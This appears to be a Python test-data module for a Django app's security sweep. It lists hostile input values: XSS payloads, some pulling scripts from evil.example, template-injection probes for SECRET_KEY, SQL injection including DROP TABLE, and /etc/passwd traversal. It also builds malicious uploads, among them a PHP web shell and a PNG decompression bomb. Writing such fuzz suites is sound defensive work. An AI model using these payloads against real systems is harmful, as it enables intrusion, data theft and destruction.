"""Hostile values for the input sweep.

``TEXT`` holds values for ordinary fields and query parameters, ``FILES`` builders of hostile uploads,
``TAMPERED`` the names of other people's ids (resolved against the test world by the sweep). ``reduced()``
is the default run's share (every kind of attack, about 60 values); ``HOSTILE_FULL=1`` sweeps everything.

Every script payload sets ``window.__xss`` or opens a dialog, so the browser test can tell if one ran.
"""

import io
import os
from dataclasses import dataclass

from django.core.files.uploadedfile import SimpleUploadedFile

XSS_MARK = "__xss"


@dataclass(frozen=True)
class Value:
    label: str
    value: object  # str, or a list of str for "a list where a scalar is expected"
    kind: str


def _v(kind: str, items: list) -> list[Value]:
    return [Value(f"{kind}:{i}", item, kind) for i, item in enumerate(items)]


SCRIPT = _v(
    "xss",
    [
        "<script>window.__xss=1</script>",
        "<script>alert('xss')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>window.__xss=1</script>",
        '"><script>window.__xss=1</script>',
        "'><script>window.__xss=1</script>",
        "</textarea><script>window.__xss=1</script>",
        "</title><script>window.__xss=1</script>",
        "</script><script>window.__xss=1</script>",
        '<img src=x onerror="window.__xss=1">',
        "<img src=x onerror=alert('xss')>",
        '<IMG SRC="javascript:window.__xss=1">',
        "<img src=`x`onerror=window.__xss=1>",
        '<svg onload="window.__xss=1">',
        "<svg/onload=alert('xss')>",
        "<svg><script>window.__xss=1</script></svg>",
        '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
        '<iframe src="javascript:window.__xss=1"></iframe>',
        '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
        '<body onload="window.__xss=1">',
        '<details open ontoggle="window.__xss=1">',
        '<video><source onerror="window.__xss=1"></video>',
        '<input autofocus onfocus="window.__xss=1">',
        '<a href="javascript:window.__xss=1">klik</a>',
        "javascript:window.__xss=1",
        "JaVaScRiPt:alert('xss')",
        "java\tscript:window.__xss=1",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
        "vbscript:msgbox('xss')",
        '" onmouseover="window.__xss=1" x="',
        "' onmouseover='window.__xss=1' x='",
        '" autofocus onfocus="window.__xss=1',
        "`-alert('xss')-`",
        "';window.__xss=1;//",
        '";window.__xss=1;//',
        "<style>@import 'http://evil.example/x.css';</style>",
        '<link rel="stylesheet" href="http://evil.example/x.css">',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        '<base href="http://evil.example/">',
        '<form action="http://evil.example/"><button>kirim</button></form>',
        "<!--<img src=x onerror=window.__xss=1>-->",
        "<![CDATA[<script>window.__xss=1</script>]]>",
        "&lt;script&gt;window.__xss=1&lt;/script&gt;",
        "&#60;script&#62;window.__xss=1&#60;/script&#62;",
        "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
        "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
        "[klik](javascript:window.__xss=1)",
        '![gambar](x" onerror="window.__xss=1)',
        "<http://evil.example/>",
        '[a](http://evil.example/ "judul" onclick="window.__xss=1")',
        "<marquee onstart=window.__xss=1>",
        '<object data="javascript:window.__xss=1"></object>',
        '<embed src="javascript:window.__xss=1">',
    ],
)

TEMPLATE = _v(
    "template",
    [
        "{{ request.user.password }}",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{% load log %}{% get_admin_log 10 as log %}",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__ }}",
        "%(password)s",
        "{0.__class__}",
        "%s%s%s%n",
    ],
)

SQL = _v(
    "sql",
    [
        "' OR '1'='1",
        "' OR 1=1--",
        '" OR ""="',
        "'; DROP TABLE villages_unit;--",
        "1; SELECT pg_sleep(5)--",
        "1' AND SLEEP(5)#",
        "' UNION SELECT username, password FROM auth_user--",
        "%",
        "%%",
        "_",
        "%_%",
        "\\",
        "\\%",
        "[a-z]*",
        "'",
        '"',
        "`",
        ";",
        "--",
        "/*",
        "*/",
        "a%' ESCAPE '\\",
        ".*",
        "(?:",
        "*",
        "&",
        "|",
        "!",
        ":*",
        "paspor & | ! ( ) :*",
        "''''''''''",
    ],
)

LENGTH = _v("length", ["", " ", "   \t\n  ", "a" * 5_000, "ä" * 5_000, "x" * 100_000, "1" * 5_000, "a\n" * 3_000])

UNICODE = _v(
    "unicode",
    [
        "\u202eanak\u202c",
        "paspor\u202e gnp.exe",
        "\u200b",
        "pa\u200bspor",
        "\ufeffpaspor",
        "\u200d\u200c\u2060",
        "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f",
        "😀👨‍👩‍👧‍👦🇮🇩",
        "𝕻𝖆𝖘𝖕𝖔𝖗",
        "𠜎𠜱𠝹",
        "ﷺ",
        "مرحبا بالعالم",
        "日本語のテキスト",
        "\x00",
        "abc\x00def",
        "\x00<script>window.__xss=1</script>",
        "\x01\x02\x03\x1b[31m",
        "\r\nSet-Cookie: x=1",
        "\r\n\r\n<script>window.__xss=1</script>",
        "\u2028\u2029",
        "\ufffd",
        "\ud800",
        "x\udfffy",
        "\U0010ffff",
        "İıŞşĞğ",
        "ß" * 300,
        "ＡＢＣ",
    ],
)

NUMBER = _v(
    "number",
    [
        "-1",
        "0",
        "-0",
        "1e9",
        "1e309",
        "-1e309",
        "NaN",
        "Infinity",
        "-Infinity",
        "9" * 30,
        "-" + "9" * 30,
        "2147483648",
        "9223372036854775808",
        "18446744073709551616",
        "0x10",
        "1_000",
        "1,5",
        "1.5",
        "١٢٣",
        "Rp650.000",
        "+62 812",
        "00000000001",
        "1 OR 1",
        "true",
        "null",
        "None",
        "[]",
        "{}",
    ],
)

DATE = _v(
    "date",
    [
        "0000-00-00",
        "9999-12-31",
        "2026-02-30",
        "2026-13-01",
        "0001-01-01",
        "10000-01-01",
        "-2026-01-01",
        "2026/11/28",
        "28-11-2026",
        "28 November 2026",
        "2026-11-28T25:61:00",
        "2026-11-28 00:00:00+99:00",
        "1970-01-01",
        "2038-01-19",
        "99999999999999",
    ],
)

TAMPER = _v(
    "tamper",
    ["abc", "-1", "1e9", "0", "99999999999999999999", "1.0", "1 ", " 1", "1;2", "../1", "%00", "{}"],
)

URLISH = _v(
    "url",
    [
        "http://evil.example/",
        "//evil.example/",
        "/\\evil.example",
        "https:evil.example",
        "/akun/keluar/",
        "../../../../etc/passwd",
        "..%2F..%2Fetc%2Fpasswd",
        "C:\\Windows\\win.ini",
        "file:///etc/passwd",
        "mailto:x@evil.example",
        "a@b",
        "not-an-email",
        "warga@example.test\r\nBcc: all@example.test",
        "warga@[127.0.0.1]",
        '"<script>"@example.test',
        "a" * 250 + "@example.test",
    ],
)

WRONG_TYPE = _v(
    "list",
    [
        ["1", "2"],
        ["<script>window.__xss=1</script>", "x"],
        ["", ""],
        ["abc", "-1", "1e9"],
        ["2026-01-01", "2026-02-30"],
    ],
)

TEXT: list[Value] = SCRIPT + TEMPLATE + SQL + LENGTH + UNICODE + NUMBER + DATE + TAMPER + URLISH + WRONG_TYPE

# Other people's ids, resolved against the world by the sweep (``tampered_ids``).
TAMPERED = ["unit_b", "office_y", "activity_b", "incident_b", "user_officer_b", "summary_y", "article_missing"]


# --- Files ---------------------------------------------------------------------------------------


def _png(size=(8, 8)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (10, 200, 30)).save(out, "PNG")
    return out.getvalue()


def _huge_dimensions_png() -> bytes:
    # A tiny file that claims 50,000 x 50,000 pixels: a decompression bomb for a naive thumbnailer.
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def _files() -> list[tuple[str, callable]]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"><script>window.__xss=1</script></svg>'
    html = b"<html><body><script>window.__xss=1</script></body></html>"
    return [
        ("empty.jpg", lambda: SimpleUploadedFile("kosong.jpg", b"", content_type="image/jpeg")),
        ("text-as-jpg", lambda: SimpleUploadedFile("foto.jpg", b"bukan gambar", content_type="image/jpeg")),
        ("html-as-jpg", lambda: SimpleUploadedFile("foto.jpg", html, content_type="image/jpeg")),
        ("svg-script", lambda: SimpleUploadedFile("gambar.svg", svg, content_type="image/svg+xml")),
        ("svg-as-png", lambda: SimpleUploadedFile("gambar.png", svg, content_type="image/png")),
        ("html", lambda: SimpleUploadedFile("laporan.html", html, content_type="text/html")),
        ("php", lambda: SimpleUploadedFile("shell.php", b"<?php system($_GET['c']); ?>", content_type="image/jpeg")),
        (
            "gif-polyglot",
            lambda: SimpleUploadedFile("x.gif", b"GIF89a/*<script>window.__xss=1</script>*/", content_type="image/gif"),
        ),
        (
            "pdf-js",
            lambda: SimpleUploadedFile("r.pdf", b"%PDF-1.7\n/JS (app.alert(1))\n%%EOF", content_type="application/pdf"),
        ),
        ("traversal-name", lambda: SimpleUploadedFile("../../../etc/passwd.png", _png(), content_type="image/png")),
        (
            "script-name",
            lambda: SimpleUploadedFile('"><img src=x onerror=window.__xss=1>.png', _png(), content_type="image/png"),
        ),
        ("long-name", lambda: SimpleUploadedFile("a" * 300 + ".png", _png(), content_type="image/png")),
        ("rtl-name", lambda: SimpleUploadedFile("foto\u202egpj.exe", _png(), content_type="image/png")),
        ("bomb-dimensions", lambda: SimpleUploadedFile("bom.png", _huge_dimensions_png(), content_type="image/png")),
        ("truncated-png", lambda: SimpleUploadedFile("rusak.png", _png()[:40], content_type="image/png")),
        (
            "oversized-12MB",
            lambda: SimpleUploadedFile(
                "besar.jpg", b"\xff\xd8\xff" + b"0" * (12 * 1024 * 1024), content_type="image/jpeg"
            ),
        ),
        ("valid-png", lambda: SimpleUploadedFile("foto.png", _png(), content_type="image/png")),
    ]


FILES = _files()


def full() -> bool:
    return bool(os.environ.get("HOSTILE_FULL"))


def reduced() -> list[Value]:
    """About 60 values with every kind of attack represented: the default run."""
    picks = {
        "xss": [0, 4, 6, 9, 13, 17, 23, 24, 29, 46, 47],
        "template": [0, 2, 4],
        "sql": [0, 3, 7, 10, 12, 14, 28, 29],
        "length": [0, 2, 3, 5],
        "unicode": [0, 3, 6, 8, 14, 15, 18, 22, 23],
        "number": [0, 3, 4, 6, 9, 13, 16, 25],
        "date": [0, 1, 2, 5, 9],
        "tamper": [0, 1, 2],
        "url": [0, 1, 5, 12],
        "list": [0, 1, 3],
    }
    by_kind: dict[str, list[Value]] = {}
    for value in TEXT:
        by_kind.setdefault(value.kind, []).append(value)
    return [by_kind[kind][i] for kind, idxs in picks.items() for i in idxs]


def text_values() -> list[Value]:
    return TEXT if full() else reduced()
